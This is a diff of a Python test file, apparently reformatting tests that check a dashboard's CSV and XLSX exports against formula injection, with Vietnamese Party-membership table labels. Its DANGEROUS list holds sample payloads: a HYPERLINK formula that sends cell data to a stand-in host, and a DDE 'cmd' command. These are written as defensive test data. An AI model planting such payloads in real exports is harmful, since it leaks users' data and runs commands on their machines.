@@ -1,5 +1,6 @@
 """Exports never hand a spreadsheet a formula to run (OWASP CSV injection): text starting with =, +, -, @, tab or
 carriage return is neutralised in CSV and written as plain text in XLSX."""
+
 from __future__ import annotations
 
 import csv
@@ -13,8 +14,15 @@ import python_calamine as pc
 from dashboard import export
 from etl.settings import INTERNAL_MARK
 
-DANGEROUS = ['=HYPERLINK("http://x.example/?d="&A1,"bấm")', "+1", "-2", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
-             "=cmd|' /C calc'!A0"]
+DANGEROUS = [
+    '=HYPERLINK("http://x.example/?d="&A1,"bấm")',
+    "+1",
+    "-2",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "=cmd|' /C calc'!A0",
+]
 SAFE = ["Chi bộ xóm Nà Phìa", "Đảng bộ (Thục Phán)", "1 + 1", "a=b", "e-mail", "", "'=đã trích"]
 COLS = [export.Col("name", "Tên"), export.Col("members", "Đảng viên", "int"), export.Col("value", "Tỉ lệ (%)", "pct")]
 
@@ -30,14 +38,13 @@ def test_neutralise_leaves_other_values(value):
 
 
 def _frame(names: list[str]) -> pl.DataFrame:
-    return pl.DataFrame({"name": names, "members": [-3 + i for i in range(len(names))],
-                         "value": [12.5] * len(names)})
+    return pl.DataFrame({"name": names, "members": [-3 + i for i in range(len(names))], "value": [12.5] * len(names)})
 
 
 def test_csv_bytes_neutralised():
     names = DANGEROUS + SAFE
     raw = export.table_csv(_frame(names), COLS)
-    assert raw.startswith("\ufeff".encode("utf-8"))       # BOM: Excel shows the diacritics
+    assert raw.startswith("\ufeff".encode("utf-8"))  # BOM: Excel shows the diacritics
     rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
     assert rows[0] == ["Tên", "Đảng viên", "Tỉ lệ (%)"]
     got = [r[0] for r in rows[1:]]
@@ -71,7 +78,7 @@ def test_xlsx_writes_text_not_formulas():
     flat = [v for r in rows for v in r]
     assert INTERNAL_MARK in flat
     header = next(i for i, r in enumerate(rows) if r[:1] == ["Tên"])
-    got = [r[0] for r in rows[header + 1:]]
+    got = [r[0] for r in rows[header + 1 :]]
     # plain strings, exactly as loaded (the XLSX cell type already makes them inert); "\r" is stored as
     # "_x000D_"-escaped text by the format and read back as a carriage return
     assert got == [n if n else "" for n in names]
@@ -80,18 +87,35 @@ def test_xlsx_writes_text_not_formulas():
 
 def test_bieu_workbook_writes_no_formulas():
     """The official tables are numbers and fixed labels; still, nothing in them may be a formula."""
-    empty = {t: pl.DataFrame({"year": [], "unit_code": []}, schema={"year": pl.Int64, "unit_code": pl.String})
-             for t in ("tbl_bieu05", "tbl_bieu06")}
+    empty = {
+        t: pl.DataFrame({"year": [], "unit_code": []}, schema={"year": pl.Int64, "unit_code": pl.String})
+        for t in ("tbl_bieu05", "tbl_bieu06")
+    }
     tables = {
-        "tbl_bieu01": pl.DataFrame(schema={"year": pl.Int64, "level_code": pl.String, "type_code": pl.String,
-                                           "count": pl.Int64}),
-        "tbl_bieu02": pl.DataFrame(schema={"year": pl.Int64, "level_code": pl.String, "type_code": pl.String,
-                                           "role_code": pl.String, "total": pl.Int64,
-                                           **{c: pl.Int64 for _, g in export.B02_GROUPS for c, _ in g}}),
-        "tbl_bieu03": pl.DataFrame(schema={"year": pl.Int64, "level_code": pl.String,
-                                           **{m: pl.Int64 for m, _ in export.B03_MEASURES}}),
-        "tbl_bieu04": pl.DataFrame(schema={"year": pl.Int64, "level_code": pl.String, "type_code": pl.String,
-                                           **{m: pl.Int64 for m, _ in export.B04_MEASURES}}),
+        "tbl_bieu01": pl.DataFrame(
+            schema={"year": pl.Int64, "level_code": pl.String, "type_code": pl.String, "count": pl.Int64}
+        ),
+        "tbl_bieu02": pl.DataFrame(
+            schema={
+                "year": pl.Int64,
+                "level_code": pl.String,
+                "type_code": pl.String,
+                "role_code": pl.String,
+                "total": pl.Int64,
+                **{c: pl.Int64 for _, g in export.B02_GROUPS for c, _ in g},
+            }
+        ),
+        "tbl_bieu03": pl.DataFrame(
+            schema={"year": pl.Int64, "level_code": pl.String, **{m: pl.Int64 for m, _ in export.B03_MEASURES}}
+        ),
+        "tbl_bieu04": pl.DataFrame(
+            schema={
+                "year": pl.Int64,
+                "level_code": pl.String,
+                "type_code": pl.String,
+                **{m: pl.Int64 for m, _ in export.B04_MEASURES},
+            }
+        ),
         "tbl_bieu07": pl.DataFrame(schema={"year": pl.Int64, **{m: pl.Int64 for m, _ in export.B07_MEASURES}}),
         **empty,
     }
